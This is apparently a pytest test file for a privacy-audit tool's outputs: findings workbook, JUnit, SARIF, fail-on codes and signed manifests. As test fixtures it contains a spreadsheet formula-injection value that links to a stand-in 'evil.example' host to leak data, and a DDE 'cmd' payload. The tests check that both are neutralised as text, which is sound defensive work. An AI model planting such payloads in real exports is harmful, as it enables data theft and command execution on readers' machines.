"""Outputs others consume (issue 14): findings.xlsx, JUnit, SARIF, --fail-on, signed reports."""

from __future__ import annotations

import csv
import json
import os
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
import yaml

from audit_lib.cli import app
from audit_lib.controls.registry import load_controls
from audit_lib.findings.workbook import PREAMBLE
from audit_lib.findings.xmltext import xml_text

from builders import make_snapshot

FORMULA_KEY = '=HYPERLINK("http://evil.example/?leak","click me")'
NASTY_PARTY = "Ad\x1bTech\x07 <b>Ltd</b>\ufffe"
# RET-01: violations I2, FORMULA_KEY; I1 waived (W-KEY); I3 an exception (access log).
# SEC-02: violation X1, disclosed to the party with control characters in its name.
ROWS = {
    "customers": [{"customer_id": "C1", "country": "DE"}],
    "personal_data": [
        {"item_id": "I2", "customer_id": "C1", "received_at": "2010-01-01T00:00:00Z"},
        {"item_id": "I1", "customer_id": "C1", "received_at": "2011-01-01T00:00:00Z"},
        {"item_id": "I3", "customer_id": "C1", "received_at": "2010-01-01T00:00:00Z",
         "system_kind": "access_log"},
        {"item_id": FORMULA_KEY, "customer_id": "C1", "received_at": "2010-01-01T00:00:00Z"},
    ],
    "parties": [{"party_id": "P1", "name": NASTY_PARTY}],
    "disclosures": [{"disclosure_id": "X1", "party_id": "P1", "customer_id": "C1",
                     "encrypted_in_transit": False}],
}  # fmt: skip
WAIVERS = [
    {"id": "W-KEY", "control": "RET-01", "covers": {"key": "I1"}, "justification": "Archive moves in Q4.",
     "approved_by": "dpo@example.com", "approved_on": "2026-07-01", "expires_on": "2026-12-01"},
    {"id": "W-OLD", "control": "SEC-02", "covers": "all", "justification": "Old exemption.",
     "approved_by": "dpo@example.com", "approved_on": "2025-01-01", "expires_on": "2026-01-01"},
]  # fmt: skip
SARIF_SCHEMA = Path(__file__).parent / "schemas" / "sarif-2.1.0.json"


def quarterly(cli, snapshot: Path, out: Path, *args: str):
    return cli.invoke(app, ["run", "quarterly", "--snapshot", str(snapshot), "--period", "2026-Q3",
                            "--out", str(out), "--no-notebooks", *args])  # fmt: skip


@pytest.fixture(scope="module")
def snapshot(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return make_snapshot(tmp_path_factory.mktemp("ci"), ROWS)


@pytest.fixture(scope="module")
def waivers_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("ci-waivers") / "waivers.yaml"
    path.write_text(yaml.safe_dump(WAIVERS, sort_keys=False))
    return path


@pytest.fixture(scope="module")
def report(snapshot: Path, waivers_file: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One audit with every CI output: the folder (with findings.xlsx), report.junit.xml and report.sarif."""
    from typer.testing import CliRunner

    base = tmp_path_factory.mktemp("ci-report")
    result = quarterly(CliRunner(), snapshot, base / "report", "--waivers", str(waivers_file), "--xlsx",
                       "--junit", str(base / "report.junit.xml"), "--sarif", str(base / "report.sarif"))  # fmt: skip
    assert result.exit_code == 0, result.output
    return base / "report"


# --- findings.xlsx ---------------------------------------------------------------------------------------


def test_workbook_sheets_and_string_cells(report: Path) -> None:
    import openpyxl

    assert (report / "findings.xlsx").is_file()
    manifest = json.loads((report / "manifest.json").read_text())
    assert "findings.xlsx" in manifest["files"]  # written before the manifest
    book = openpyxl.load_workbook(report / "findings.xlsx")
    ids = [c.id for c in load_controls()]
    assert book.sheetnames == ["Scorecard", *ids, "Exceptions", "Waivers", "RoPA"]
    formulas = [c.coordinate for ws in book for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    ret01 = book["RET-01"]
    rows = [[c.value for c in row] for row in ret01.iter_rows()]
    header_at = next(i for i, r in enumerate(rows) if r[:3] == ["key", "outcome", "reason"])
    with (report / "evidence" / "RET-01.details.csv").open(newline="") as fh:
        details = list(csv.reader(fh))
    assert rows[header_at][: len(details[0])] == details[0]
    shown = [[v if v is not None else "" for v in r[: len(details[0])]] for r in rows[header_at + 1 :]]
    assert shown == details[1:]  # every details row, in order, as text
    formula_cell = next(c for row in ret01.iter_rows() for c in row if c.value == FORMULA_KEY)
    assert formula_cell.data_type == "s"
    data_cells = [c for row in ret01.iter_rows(min_row=header_at + 2) for c in row if c.value is not None]
    assert data_cells and {c.data_type for c in data_cells} == {"s"}  # age_years too: text, as in the CSV
    assert "evidence/RET-01.details.csv" in str(rows[1][0])


def test_workbook_replaces_characters_xml_cannot_hold(report: Path) -> None:
    import openpyxl

    book = openpyxl.load_workbook(report / "findings.xlsx")
    values = [str(c.value) for ws in book for row in ws.iter_rows() for c in row if c.value is not None]
    party = [v for v in values if "Tech" in v]
    assert party and all(v == "Ad\ufffdTech\ufffd <b>Ltd</b>\ufffd" for v in party), party
    assert not any(ch in v for v in values for ch in "\x1b\x07\ufffe")


def test_workbook_scorecard_exceptions_waivers(report: Path) -> None:
    import openpyxl

    book = openpyxl.load_workbook(report / "findings.xlsx")
    card = [[c.value for c in row] for row in book["Scorecard"].iter_rows()]
    assert card[0][0] == "Privacy audit 2026-Q3"
    header = next(r for r in card if r[0] == "control")
    line = dict(zip(header, next(r for r in card if r[0] == "RET-01"), strict=True))
    assert (line["status"], line["population"], line["violations"], line["exceptions"], line["waived"]) == (
        "fail", 4, 2, 1, 1,
    )  # fmt: skip
    exceptions = [[c.value for c in row] for row in book["Exceptions"].iter_rows()]
    assert ["RET-01", "I3", "access_log"] in exceptions
    waivers = [[c.value for c in row] for row in book["Waivers"].iter_rows()]
    head = next(r for r in waivers if r[0] == "id")
    by_id = {r[0]: dict(zip(head, r, strict=False)) for r in waivers if r[0] in ("W-KEY", "W-OLD")}
    assert (by_id["W-KEY"]["state"], by_id["W-KEY"]["keys"]) == ("active", "I1")
    assert by_id["W-OLD"]["state"] == "expired"


def test_workbook_stops_before_the_row_limit_and_names_the_csv(report: Path, tmp_path: Path) -> None:
    import openpyxl

    from audit_lib.findings.workbook import write_workbook

    out = write_workbook(report, tmp_path / "small.xlsx", max_rows=6)
    sheet = openpyxl.load_workbook(out)["RET-01"]
    assert sheet.max_row <= 6
    last = sheet.cell(sheet.max_row, 1).value
    assert last == (
        "Stopped at 1 of 4 rows (a sheet holds 6 rows): every row is in evidence/RET-01.details.csv"
    )


def test_workbook_ropa_sheet_is_ropa_csv_and_absent_without_it(report: Path, tmp_path: Path) -> None:
    import shutil

    import openpyxl

    from audit_lib.findings.workbook import write_workbook

    book = openpyxl.load_workbook(report / "findings.xlsx")
    with (report / "ropa.csv").open(newline="") as fh:
        ropa = [[xml_text(v) for v in row] for row in csv.reader(fh)]  # the party name's ESC: U+FFFD
    rows = [["" if v is None else v for v in r] for r in book["RoPA"].iter_rows(values_only=True)]
    assert len(ropa) > 1 and [r[: len(ropa[0])] for r in rows[PREAMBLE:]] == ropa  # header, then every row
    folder = tmp_path / "copy"
    shutil.copytree(report, folder)
    (folder / "ropa.csv").write_text("activity,recipients\nmarketing,\"=cmd|' /C calc'!A0\"\n")
    book = openpyxl.load_workbook(write_workbook(folder, tmp_path / "with-ropa.xlsx"))
    cells = [c for row in book["RoPA"].iter_rows() for c in row if c.value == "=cmd|' /C calc'!A0"]
    assert len(cells) == 1 and cells[0].data_type == "s"
    (folder / "ropa.csv").unlink()
    book = openpyxl.load_workbook(write_workbook(folder, tmp_path / "without-ropa.xlsx"))
    assert "RoPA" not in book.sheetnames


# --- JUnit ----------------------------------------------------------------------------------------------


def test_junit_one_testcase_per_control(report: Path) -> None:
    root = ET.parse(report.parent / "report.junit.xml").getroot()
    suite = root.find("testsuite")
    cases = suite.findall("testcase")
    ids = [c.id for c in load_controls()]
    assert [case.get("name").split(" ")[0] for case in cases] == ids
    by_id = {case.get("name").split(" ")[0]: case for case in cases}
    failure = by_id["RET-01"].find("failure")
    assert failure is not None
    assert failure.get("message").startswith("2 violation(s) of 4 judged, 1 exception(s), 1 waived")
    assert "I2" in failure.get("message") and FORMULA_KEY in failure.get("message")
    sec02 = by_id["SEC-02"].find("failure")
    assert "X1" in sec02.get("message")
    findings = json.loads((report / "findings.json").read_text())
    empty = [c["id"] for c in findings["controls"] if c["population"] == 0]
    assert empty and all(by_id[cid].find("skipped") is not None for cid in empty)
    assert int(suite.get("skipped")) == len(empty)
    assert int(suite.get("failures")) == sum(1 for c in findings["controls"] if c["violations"])
    props = {p.get("name"): p.get("value") for p in suite.find("properties")}
    assert props["period"] == "2026-Q3" and props["snapshot_id"] == findings["snapshot"]["id"]


def test_junit_replaces_characters_xml_cannot_hold(tmp_path: Path) -> None:
    from audit_lib.findings.junit import junit_xml

    folder = tmp_path / "r"
    (folder / "evidence").mkdir(parents=True)
    document = {
        "format": "privacy-audit/findings/1", "period": {"label": "2026-Q3"},
        "snapshot": {"id": "s\x00"}, "generated_at": "2026-10-02T00:00:00Z",
        "controls": [{"id": "SHR-01", "clause": "§4", "title": "Parties \x1b", "status": "fail",
                      "population": 1, "violations": 1, "exceptions": 0}],
    }  # fmt: skip
    (folder / "findings.json").write_text(json.dumps(document))
    (folder / "evidence" / "SHR-01.csv").write_text("key,outcome,reason\nX\x1b1\x0c,violation,\n")
    data = junit_xml(folder)
    root = ET.fromstring(data)  # parses: no character XML 1.0 cannot hold
    case = root.find("testsuite/testcase")
    assert case.get("name") == "SHR-01 Parties \ufffd"
    assert "X\ufffd1\ufffd" in case.find("failure").get("message")


# --- SARIF ----------------------------------------------------------------------------------------------


def test_sarif_validates_against_the_published_schema(report: Path) -> None:
    import jsonschema

    schema = json.loads(SARIF_SCHEMA.read_text())
    assert schema["title"] == "Static Analysis Results Format (SARIF) Version 2.1.0 JSON Schema"
    log = json.loads((report.parent / "report.sarif").read_text())
    jsonschema.validate(log, schema, cls=jsonschema.Draft4Validator)
    assert log["version"] == "2.1.0"


def test_sarif_rules_results_and_suppressions(report: Path) -> None:
    log = json.loads((report.parent / "report.sarif").read_text())
    run = log["runs"][0]
    rules = run["tool"]["driver"]["rules"]
    controls = load_controls()
    assert [r["id"] for r in rules] == [c.id for c in controls]
    ret01 = rules[0]
    assert ret01["properties"]["clause"] == "§8"
    assert ret01["shortDescription"]["text"] == controls[0].title
    assert "retention_years" in ret01["fullDescription"]["text"]
    results = {(r["ruleId"], r["locations"][0]["logicalLocations"][0]["name"]): r for r in run["results"]}
    assert set(results) == {("RET-01", "I2"), ("RET-01", FORMULA_KEY), ("RET-01", "I1"), ("SEC-02", "X1")}
    waived = results[("RET-01", "I1")]
    assert waived["suppressions"] == [{
        "kind": "external", "status": "accepted", "justification": "Archive moves in Q4.",
        "properties": {"waiver": "W-KEY", "approved_by": "dpo@example.com", "expires_on": "2026-12-01"},
    }]  # fmt: skip
    assert "suppressions" not in results[("RET-01", "I2")]
    location = results[("SEC-02", "X1")]["locations"][0]["logicalLocations"][0]
    assert location["fullyQualifiedName"] == "SEC-02/X1"
    assert all(r["ruleIndex"] == [x["id"] for x in rules].index(r["ruleId"]) for r in run["results"])


def test_ci_files_are_never_overwritten(cli, snapshot: Path, tmp_path: Path) -> None:
    existing = tmp_path / "junit.xml"
    existing.write_text("mine")
    result = quarterly(cli, snapshot, tmp_path / "report", "--junit", str(existing))
    assert result.exit_code == 2
    assert "exists" in result.output and existing.read_text() == "mine"
    assert not (tmp_path / "report").exists()  # refused before anything ran


# --- --fail-on ------------------------------------------------------------------------------------------


def test_fail_on_default_and_violations(cli, snapshot: Path, waivers_file: Path, tmp_path: Path) -> None:
    assert quarterly(cli, snapshot, tmp_path / "a").exit_code == 0  # default: exit 0 whatever it found
    result = quarterly(cli, snapshot, tmp_path / "b", "--fail-on", "violations")
    assert result.exit_code == 3, result.output
    assert "--fail-on met: violations: 4 violation(s) in 2 control(s): RET-01 3, SEC-02 1" in result.output
    assert (tmp_path / "b" / "manifest.json").is_file()  # the report is written all the same
    result = quarterly(cli, snapshot, tmp_path / "c", "--fail-on", "nothing")
    assert result.exit_code == 2 and "not one of" in result.output


def test_fail_on_never_counts_waived_violations(cli, snapshot: Path, tmp_path: Path) -> None:
    waivers = tmp_path / "all.yaml"
    waivers.write_text(yaml.safe_dump([
        {**WAIVERS[0], "id": "W-RET", "covers": "all"}, {**WAIVERS[1], "id": "W-SEC", "expires_on": "2026-12-01"},
    ]))  # fmt: skip
    result = quarterly(cli, snapshot, tmp_path / "r", "--waivers", str(waivers), "--fail-on", "violations",
                       "--fail-on", "new-violations", "--fail-on", "expired-waivers")  # fmt: skip
    assert result.exit_code == 0, result.output


def test_fail_on_expired_waivers(cli, snapshot: Path, waivers_file: Path, tmp_path: Path) -> None:
    result = quarterly(cli, snapshot, tmp_path / "r", "--waivers", str(waivers_file),
                       "--fail-on", "expired-waivers")  # fmt: skip
    assert result.exit_code == 3
    assert "expired-waivers: 1 expired waiver(s): W-OLD" in result.output


def test_fail_on_new_violations(cli, snapshot: Path, tmp_path: Path) -> None:
    first = tmp_path / "first"
    result = quarterly(cli, snapshot, first, "--fail-on", "new-violations")
    assert result.exit_code == 3  # no previous report: every violation is new
    assert "new-violations: 4 new violation(s)" in result.output
    # Against a report with the same violations, the state control RET-01 has none new; SEC-02 judges
    # the period's disclosures (compared by counts), so its violation is of this period: new.
    result = quarterly(
        cli, snapshot, tmp_path / "second", "--previous", str(first), "--fail-on", "new-violations"
    )
    assert result.exit_code == 3
    assert "new-violations: 1 new violation(s) in 1 control(s): SEC-02 1" in result.output
    diff = json.loads((tmp_path / "second" / "diff.json").read_text())
    assert next(c for c in diff["controls"] if c["id"] == "RET-01")["new"] == []


# --- signed reports -------------------------------------------------------------------------------------


@pytest.fixture
def keys(cli, tmp_path: Path) -> tuple[Path, Path]:
    result = cli.invoke(app, ["keygen", "--out", str(tmp_path / "audit.key")])
    assert result.exit_code == 0, result.output
    return tmp_path / "audit.key", tmp_path / "audit.key.pub"


@pytest.fixture
def signed(cli, report: Path, keys: tuple[Path, Path], tmp_path: Path) -> Path:
    import shutil

    folder = tmp_path / "signed"
    shutil.copytree(report, folder)
    result = cli.invoke(app, ["sign", str(folder), "--key", str(keys[0])])
    assert result.exit_code == 0, result.output
    return folder


def verify(cli, folder: Path, *args: str):
    return cli.invoke(app, ["verify", str(folder), *args])


def test_keygen_writes_a_private_key_0600_and_never_overwrites(cli, keys: tuple[Path, Path]) -> None:
    private, public = keys
    assert os.stat(private).st_mode & 0o777 == 0o600
    assert b"PRIVATE KEY" in private.read_bytes() and b"PUBLIC KEY" in public.read_bytes()
    before = private.read_bytes()
    result = cli.invoke(app, ["keygen", "--out", str(private)])
    assert result.exit_code == 2 and "exists" in result.output
    assert private.read_bytes() == before


def test_sign_and_verify_intact(cli, signed: Path, keys: tuple[Path, Path]) -> None:
    assert (signed / "manifest.sig").stat().st_size == 64
    result = verify(cli, signed, "--key", str(keys[1]))
    assert result.exit_code == 0, result.output
    assert "intact" in result.output and "signed by ed25519:" in result.output
    plain = verify(cli, signed)  # the manifest does not list manifest.sig
    assert plain.exit_code == 0 and "manifest.sig present but not checked" in plain.output
    again = cli.invoke(app, ["sign", str(signed), "--key", str(keys[0])])
    assert again.exit_code == 2 and "exists" in again.output


def test_verify_a_tampered_file(cli, signed: Path, keys: tuple[Path, Path]) -> None:
    path = signed / "evidence" / "RET-01.csv"
    path.write_text(path.read_text().replace("I2", "I9"))
    result = verify(cli, signed, "--key", str(keys[1]))
    assert result.exit_code == 2
    assert "evidence/RET-01.csv: altered" in result.output


def test_verify_a_rewritten_manifest(cli, signed: Path, keys: tuple[Path, Path]) -> None:
    """A forger who edits a file and rewrites the manifest passes the hashes, not the signature."""
    from audit_lib.findings.manifest import write_manifest

    path = signed / "evidence" / "RET-01.csv"
    path.write_text(path.read_text().replace("I2", "I9"))
    write_manifest(signed)
    assert verify(cli, signed).exit_code == 0
    result = verify(cli, signed, "--key", str(keys[1]))
    assert result.exit_code == 2
    assert "manifest.sig: does not match manifest.json" in result.output


def test_verify_with_a_wrong_key(cli, signed: Path, tmp_path: Path) -> None:
    other = cli.invoke(app, ["keygen", "--out", str(tmp_path / "other.key")])
    assert other.exit_code == 0
    result = verify(cli, signed, "--key", str(tmp_path / "other.key.pub"))
    assert result.exit_code == 2
    assert "manifest.sig: does not match manifest.json for key ed25519:" in result.output


def test_verify_a_missing_signature(cli, report: Path, keys: tuple[Path, Path]) -> None:
    result = verify(cli, report, "--key", str(keys[1]))
    assert result.exit_code == 2
    assert "manifest.sig: missing (the report is not signed)" in result.output


def test_sign_refuses_a_folder_that_is_not_intact(
    cli, report: Path, keys: tuple[Path, Path], tmp_path
) -> None:
    import shutil

    folder = tmp_path / "broken"
    shutil.copytree(report, folder)
    (folder / "extra.txt").write_text("planted")
    result = cli.invoke(app, ["sign", str(folder), "--key", str(keys[0])])
    assert result.exit_code == 2
    assert "extra.txt: not listed" in result.output and not (folder / "manifest.sig").exists()


def test_bad_keys_are_named(cli, signed: Path, tmp_path: Path) -> None:
    junk = tmp_path / "junk.pem"
    junk.write_text("not a key")
    result = verify(cli, signed, "--key", str(junk))
    assert result.exit_code == 2 and "junk.pem" in result.output
    result = verify(cli, signed, "--key", str(tmp_path / "absent.pub"))
    assert result.exit_code == 2 and "cannot read the key" in result.output


def test_signing_works_offline(cli, signed: Path, keys: tuple[Path, Path], monkeypatch) -> None:
    import socket

    def refuse(*args, **kwargs):
        raise AssertionError("no network")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    assert verify(cli, signed, "--key", str(keys[1])).exit_code == 0
